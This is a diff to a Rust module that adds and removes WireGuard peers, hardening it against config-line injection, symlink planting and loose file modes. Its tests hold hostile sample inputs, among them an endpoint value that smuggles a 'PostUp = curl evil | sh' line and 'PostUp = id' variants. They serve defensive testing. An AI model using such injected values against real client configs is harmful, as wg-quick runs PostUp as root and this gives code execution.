@@ -3,7 +3,10 @@
 //!
 //! Edits are validated as a whole config before anything is written, and
 //! written atomically (temp file in the same directory, then rename), so
-//! the watching gateway never reads a half-written file. With `peers_dir`
+//! the watching gateway never reads a half-written file. The temp file has
+//! an unpredictable name and is created exclusively without following
+//! symlinks; the result keeps the original file's mode (a 0600 config that
+//! holds a key stays 0600), and a new file that holds a secret is 0600. With `peers_dir`
 //! each peer is its own file; otherwise the `[[peer]]` table is appended to
 //! or removed from the main config with `toml_edit`, which keeps comments
 //! and layout.
@@ -37,6 +40,15 @@ pub struct Added {
 
 /// Adds a peer and returns the client config to hand to its owner.
 pub fn add_peer(config_path: &Path, req: &AddPeer) -> anyhow::Result<Added> {
+    if !config::valid_peer_name(&req.name) {
+        bail!(
+            "peer name \"{}\": use 1 to 64 letters, digits, '.', '_' or '-'",
+            req.name.escape_debug()
+        );
+    }
+    if let Some(e) = &req.endpoint {
+        config::check_endpoint(e).map_err(|why| anyhow::anyhow!("--endpoint: {why}"))?;
+    }
     let cfg = load(config_path)?;
     if cfg.peers.iter().any(|p| p.name == req.name) {
         bail!("a peer named \"{}\" already exists", req.name);
@@ -109,7 +121,7 @@ pub fn add_peer(config_path: &Path, req: &AddPeer) -> anyhow::Result<Added> {
         .iter()
         .map(|n| IpNet::from(n.addr()))
         .collect();
-    let client_config = client_config(&private, host, &gateway_public, &endpoint, &gateway_hosts);
+    let client_config = client_config(&private, host, &gateway_public, &endpoint, &gateway_hosts)?;
     Ok(Added {
         client_config,
         written,
@@ -119,18 +131,31 @@ pub fn add_peer(config_path: &Path, req: &AddPeer) -> anyhow::Result<Added> {
 /// A client config in wg-quick format. `[Peer] AllowedIPs` holds only the
 /// gateway's own tunnel addresses: nothing else is reachable through it, so
 /// routing more would only black-hole the client's traffic.
+///
+/// wg-quick runs `PostUp` lines as root, so a value with a line break
+/// would be code execution on the client: every string is checked here,
+/// last, whatever validated it before.
 pub fn client_config(
     private_key: &str,
     address: IpNet,
     gateway_public: &str,
     endpoint: &str,
     gateway_hosts: &[IpNet],
-) -> String {
+) -> anyhow::Result<String> {
+    config::check_endpoint(endpoint).map_err(|why| anyhow::anyhow!("endpoint: {why}"))?;
+    for (what, v) in [
+        ("private key", private_key),
+        ("gateway public key", gateway_public),
+    ] {
+        if v.is_empty() || !v.bytes().all(|b| b.is_ascii_graphic()) {
+            bail!("the {what} holds characters that cannot go into a client config");
+        }
+    }
     let allowed: Vec<String> = gateway_hosts.iter().map(|n| n.to_string()).collect();
-    format!(
+    Ok(format!(
         "[Interface]\nPrivateKey = {private_key}\nAddress = {address}\n\n[Peer]\nPublicKey = {gateway_public}\nEndpoint = {endpoint}\nAllowedIPs = {}\nPersistentKeepalive = 25\n",
         allowed.join(", ")
-    )
+    ))
 }
 
 /// Removes a peer by name from the peers directory or the main config.
@@ -199,11 +224,31 @@ pub fn qr_png(text: &str, path: &Path) -> anyhow::Result<()> {
         .render::<image::Luma<u8>>()
         .min_dimensions(400, 400)
         .build();
+    let mut png = Vec::new();
     image
-        .save(path)
+        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
+        .context("encoding the QR code")?;
+    // The code may hold the client's private key: owner-only, and never
+    // through a symlink someone planted at that path.
+    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
+    let mut f = std::fs::OpenOptions::new()
+        .write(true)
+        .create(true)
+        .truncate(true)
+        .mode(0o600)
+        .custom_flags(O_NOFOLLOW)
+        .open(path)
+        .with_context(|| format!("writing {}", path.display()))?;
+    f.set_permissions(std::fs::Permissions::from_mode(0o600))
+        .with_context(|| format!("setting the mode of {}", path.display()))?;
+    f.write_all(&png)
         .with_context(|| format!("writing {}", path.display()))?;
     Ok(())
 }
+
+/// `O_NOFOLLOW` on Linux (all architectures we ship for): open fails on a
+/// symlink instead of following it.
+const O_NOFOLLOW: i32 = 0o400000;
 
 fn load(path: &Path) -> anyhow::Result<Config> {
     config::load(path).map_err(|e| anyhow::anyhow!("{} is not valid:\n{e}", path.display()))
@@ -245,20 +290,56 @@ fn next_free_address(cfg: &Config, net: IpNet) -> Option<IpAddr> {
     net.hosts().take(65_536).find(|ip| !taken(*ip))
 }
 
+/// The mode a rewritten file gets: the old file's, or for a new file 0600
+/// when it holds a secret (an inline or preshared key) and 0644 otherwise.
+fn mode_for(path: &Path, contents: &str) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    match std::fs::metadata(path) {
+        Ok(m) => m.permissions().mode() & 0o7777,
+        Err(_) if holds_secret(contents) => 0o600,
+        Err(_) => 0o644,
+    }
+}
+
+fn holds_secret(contents: &str) -> bool {
+    contents.lines().any(|l| {
+        let key = l.split('=').next().unwrap_or("").trim();
+        key == "private_key" || key == "preshared_key"
+    })
+}
+
 fn write_atomically(path: &Path, contents: &str) -> anyhow::Result<()> {
+    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
     let dir = path.parent().unwrap_or(Path::new("."));
     let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("peers");
-    // A dot-name is skipped by the peers_dir reader, so a crash never leaves a half peer behind.
-    let tmp = dir.join(format!(".{name}.tmp-{}", std::process::id()));
-    {
-        let mut f =
-            std::fs::File::create(&tmp).with_context(|| format!("creating {}", tmp.display()))?;
+    let mode = mode_for(path, contents);
+    // A dot-name is skipped by the peers_dir reader, so a crash never leaves
+    // a half peer behind. The name is unpredictable and the file is created
+    // exclusively (O_EXCL, no symlink followed), so nobody can plant a file
+    // or link there beforehand.
+    let suffix = rand_core::RngCore::next_u64(&mut rand_core::OsRng);
+    let tmp = dir.join(format!(".{name}.tmp-{suffix:016x}"));
+    let write = || -> anyhow::Result<()> {
+        let mut f = std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .mode(0o600)
+            .custom_flags(O_NOFOLLOW)
+            .open(&tmp)
+            .with_context(|| format!("creating {}", tmp.display()))?;
         f.write_all(contents.as_bytes())?;
+        // Exactly the old mode, whatever the umask.
+        f.set_permissions(std::fs::Permissions::from_mode(mode))?;
         f.sync_all()?;
+        std::fs::rename(&tmp, path)
+            .with_context(|| format!("renaming {} to {}", tmp.display(), path.display()))?;
+        Ok(())
+    };
+    let r = write();
+    if r.is_err() {
+        let _ = std::fs::remove_file(&tmp);
     }
-    std::fs::rename(&tmp, path)
-        .with_context(|| format!("renaming {} to {}", tmp.display(), path.display()))?;
-    Ok(())
+    r
 }
 
 #[cfg(test)]
@@ -355,5 +436,98 @@ mod tests {
         assert!(e.contains("overlaps"), "{e}");
         let e = remove_peer(&path, "nobody").err().unwrap().to_string();
         assert!(e.contains("no peer named"), "{e}");
+    }
+
+    fn mode_of(p: &Path) -> u32 {
+        use std::os::unix::fs::PermissionsExt as _;
+        std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
+    }
+
+    fn set_mode(p: &Path, mode: u32) {
+        use std::os::unix::fs::PermissionsExt as _;
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
+    }
+
+    #[test]
+    fn add_and_remove_keep_the_config_s_mode() {
+        let path = setup("mode", false);
+        set_mode(&path, 0o600);
+        add_peer(&path, &req("bob")).unwrap();
+        assert_eq!(mode_of(&path), 0o600, "peer add widened a 0600 config");
+        remove_peer(&path, "bob").unwrap();
+        assert_eq!(mode_of(&path), 0o600, "peer remove widened a 0600 config");
+        set_mode(&path, 0o640);
+        add_peer(&path, &req("carol")).unwrap();
+        assert_eq!(mode_of(&path), 0o640);
+        // No temp file is left behind.
+        let dir = path.parent().unwrap();
+        let leftovers: Vec<_> = std::fs::read_dir(dir)
+            .unwrap()
+            .filter_map(|e| e.ok())
+            .filter(|e| e.file_name().to_string_lossy().contains(".tmp-"))
+            .collect();
+        assert!(leftovers.is_empty(), "{leftovers:?}");
+    }
+
+    #[test]
+    fn new_files_that_hold_a_secret_are_owner_only() {
+        let dir = std::env::temp_dir().join(format!("promgate-secret-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        let f = dir.join("p.toml");
+        write_atomically(&f, "[[peer]]\npreshared_key = \"x\"\n").unwrap();
+        assert_eq!(mode_of(&f), 0o600);
+        let g = dir.join("q.toml");
+        write_atomically(&g, "[[peer]]\nname = \"q\"\n").unwrap();
+        assert_eq!(mode_of(&g), 0o644);
+        // The QR code holds the client's private key.
+        let png = dir.join("qr.png");
+        qr_png("[Interface]\nPrivateKey = abc\n", &png).unwrap();
+        assert_eq!(mode_of(&png), 0o600);
+        // A symlink planted at the PNG path is not followed.
+        let target = dir.join("elsewhere");
+        std::fs::write(&target, "keep").unwrap();
+        let link = dir.join("link.png");
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+        assert!(qr_png("x", &link).is_err());
+        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
+    }
+
+    #[test]
+    fn endpoints_that_could_inject_config_lines_are_refused() {
+        let path = setup("endpoint", true);
+        for bad in [
+            "vpn.example.com:51820\nPostUp = curl evil | sh",
+            "vpn.example.com:51820\r",
+            "vpn example.com:51820",
+            "vpn.example.com",
+            "vpn.example.com:0",
+            "fd00::1:51820",
+        ] {
+            let mut r = req("eve");
+            r.endpoint = Some(bad.into());
+            let e = add_peer(&path, &r).err().map(|e| e.to_string());
+            assert!(
+                e.as_deref().is_some_and(|e| e.contains("--endpoint")),
+                "{bad:?}: {e:?}"
+            );
+        }
+        for good in [
+            "vpn.example.com:51820",
+            "203.0.113.7:443",
+            "[fd00::1]:51820",
+        ] {
+            assert_eq!(config::check_endpoint(good), Ok(()), "{good}");
+        }
+        // The same check guards the config file.
+        let text = std::fs::read_to_string(&path).unwrap().replace(
+            "vpn.example.com:51820",
+            "vpn.example.com:51820\\nPostUp = id",
+        );
+        let e = config::parse(&path, &text).err().unwrap().to_string();
+        assert!(e.contains("gateway.endpoint"), "{e}");
+        // And the renderer refuses it whatever called it.
+        let host: IpNet = "10.13.13.9/32".parse().unwrap();
+        assert!(client_config("k", host, "g", "a:1\nPostUp = id", &[host]).is_err());
     }
 }
